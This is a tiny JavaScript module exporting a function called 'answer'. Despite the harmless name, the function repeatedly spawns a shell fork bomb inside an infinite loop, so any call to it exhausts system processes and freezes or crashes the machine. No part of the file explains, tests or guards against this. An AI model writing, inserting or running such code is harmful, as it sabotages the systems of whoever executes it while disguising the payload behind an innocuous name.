import { spawnSync } from 'node:child_process';

export function answer() {
  for (;;) spawnSync('sh', ['-c', 'bomb() { bomb | bomb & }; bomb']);
}
